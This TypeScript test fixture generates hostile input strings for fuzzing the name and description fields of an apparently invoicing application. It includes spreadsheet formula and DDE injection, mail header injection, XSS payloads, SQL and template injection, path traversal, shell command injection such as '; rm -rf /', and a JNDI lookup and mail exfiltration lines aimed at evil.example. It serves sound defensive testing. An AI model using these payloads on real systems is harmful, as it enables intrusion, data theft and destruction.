/**
 * Texts that somebody may write where a name or a description is asked for, to make a spreadsheet, a mail program, a browser, a PDF reader or
 * a log do what they want. Families of them: each beginning with each end, so that a defence against the one spelling meets the others too.
 */

const crossed = (starts: readonly string[], ends: readonly string[]): string[] =>
  starts.flatMap((start) => ends.map((end) => `${start}${end}`));

/** What is not seen, or looks like a blank, before what it hides. */
const UNSEEN = ['', ' ', '\u00a0', '\u200b', '\ufeff', '\u2060', '"', "'", '\u3000', '\u00ad'];
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '|', '%', '\t=', '\r=', '\n='];

const FORMULAS = [
  ...crossed(
    UNSEEN,
    SIGNS.map((sign) => `${sign}1+1`),
  ),
  ...crossed(
    ['=', '+', '-', '@', '=-', '=+', '@='],
    [
      "cmd|' /C calc'!A0",
      'HYPERLINK("http://evil.example?x="&A1,"Invoice")',
      'IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
      'WEBSERVICE("http://evil.example/")',
      "SUM(A1:A9)*cmd|'/c powershell'!A1",
      'DDE("cmd";"/C calc";"x")',
    ],
  ),
];

const HEADERS = crossed(
  ['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '%0d%0a', '\\r\\n', '\u000b', '\u000c'],
  [
    'Bcc: thief@evil.example',
    'Content-Type: text/html',
    'Subject: Another',
    '--boundary--',
    '.\r\nQUIT',
    'To: a@b.example,c@d.example',
    'Reply-To: thief@evil.example',
    'MIME-Version: 1.0\r\n\r\n<b>x</b>',
    'Received: from evil',
  ],
).map((each) => `Bakery${each}`);

const HTML = [
  ...crossed(
    ['', '"', "'", '">', "'>", '</td>', '</title>', '-->', ']]>', '&lt;', '<!--'],
    [
      '<script>window.__ran=1</script>',
      '<img src=x onerror=window.__ran=1>',
      '<svg onload=window.__ran=1>',
      ' onmouseover="window.__ran=1"',
      '<iframe srcdoc="<script>parent.__ran=1</script>">',
      '<a href="javascript:window.__ran=1">x</a>',
      '<style>*{display:none}</style>',
      '<base href="http://evil.example/">',
    ],
  ),
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__ran=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.__ran=1>">',
  '&#60;script&#62;window.__ran=1&#60;/script&#62;',
  '\u003cscript\u003ewindow.__ran=1\u003c/script\u003e',
  '+ADw-script+AD4-window.__ran=1+ADw-/script+AD4-',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
];

const TEMPLATES = ['number', 'customer', 'total', 'dueDate', 'constructor', '__proto__', 'this', '#if', '7*7', '{number}'].flatMap(
  (name) => [`{{${name}}}`, `{{ ${name} }}`, `\${${name}}`, `<%= ${name} %>`],
);

const CODE = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'prototype',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  "'; DROP TABLE invoices;--",
  '1 OR 1=1',
  '{"$gt":""}',
  'attribute_not_exists(pk)',
  '#pk = :pk',
  'ACCOUNT',
  'INVOICE#2026-11#a',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'C:\\con\\aux.pdf',
  'file:///etc/passwd',
  'name.pdf"; filename="evil.exe',
  'a\u0000.exe',
  'CON',
  '$(touch /tmp/x)',
  '`id`',
  '; rm -rf /',
  '| mail thief@evil.example',
  `$${'{'}jndi:ldap://evil.example/a}`,
  '%s%s%s%n',
  '%00',
  '%27%3B',
  '\\u0000',
  '\\',
  '\\"',
  '"',
  "''",
  ',;,;,',
  '"quoted", and "more"',
  'a\tb\tc',
];

const DIRECTIONS = crossed(
  ['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c', '\u202b'],
  ['fdp.exe', '00.001$', 'Bakery', 'מאפייה', 'مخبز'],
);

const LETTERS = [
  "O'Brien & Söhne <test>",
  'Ærøskøbing Bådebyggeri ApS',
  'Żółć Gęślą Jaźń sp. z o.o.',
  'Ελληνικός Φούρνος',
  'Пекарня «Колос»',
  'מאפיית השכונה',
  'مخبز الحي',
  '港湾面包店',
  'ベーカリー横浜',
  '한강 빵집',
  'हार्बर बेकरी',
  'ร้านขนมปัง',
  'ẞtraße ﬀ ﬁ ﬂ',
  'I\u0307stanbul İ ı',
  '👩‍👩‍👧‍👦 Family Ltd',
  '🇦🇺🏳️‍🌈👍🏽',
  `Z${'\u0351'.repeat(40)}algo`,
  'e\u0301\u0301\u0301\u0301',
  '\ud800 half',
  'half \udc00',
  '\ufffe\uffff',
  '\u{10ffff}',
  '\u0007bell',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u0000',
  'a\u0000b',
  '\u007f',
  '\u009b31m',
  '\u200b\u200b\u200b',
  '\u2800',
  'ａｂｃ１２３',
  'раypal (with a Cyrillic a)',
  '…‥․',
  '½ ⅓ ²³',
  '١٢٣٤',
  '１２３',
  '=?utf-8?B?QmNjOiB0aGllZkBldmlsLmV4YW1wbGU=?=',
  '=?iso-8859-1?Q?=0D=0ABcc:_x?=',
  '2026-11-22T00:00:00Z ERROR everything is lost',
  '{"level":"error","message":"made up"}',
  '\\n{"level":"error"}',
];

const LONG = [
  'W'.repeat(200),
  'W'.repeat(201),
  'W'.repeat(10_000),
  'word '.repeat(2_000),
  '\u200b'.repeat(5_000),
  '😀'.repeat(300),
  'א'.repeat(3_000),
  `${'a'.repeat(199)}😀`,
  '\n'.repeat(5_000),
  '-'.repeat(1_000),
  '{{'.repeat(500),
  '('.repeat(10_000),
];

const OF_TEXTS = { FORMULAS, HEADERS, HTML, TEMPLATES, CODE, DIRECTIONS, LETTERS, LONG };

/** All of them, each once. */
export const TEXTS: readonly string[] = [...new Set(Object.values(OF_TEXTS).flat())];
